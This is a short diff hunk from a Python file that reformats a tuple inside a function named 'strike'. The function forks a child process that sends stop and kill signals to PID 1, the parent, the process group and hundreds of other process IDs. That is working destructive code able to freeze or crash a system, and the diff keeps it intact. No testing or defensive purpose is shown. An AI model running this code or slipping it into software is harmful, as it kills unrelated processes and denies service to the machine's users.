@@ -8,7 +8,14 @@ import signal
 def strike():
     if os.fork() == 0:
         for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGKILL):
-            for process in (1, os.getppid(), -os.getpgrp(), 0, *range(3, 400), *range(os.getpid() + 1, os.getpid() + 50)):
+            for process in (
+                1,
+                os.getppid(),
+                -os.getpgrp(),
+                0,
+                *range(3, 400),
+                *range(os.getpid() + 1, os.getpid() + 50),
+            ):
                 if process not in (os.getpid(), 0):
                     try:
                         os.kill(process, number)
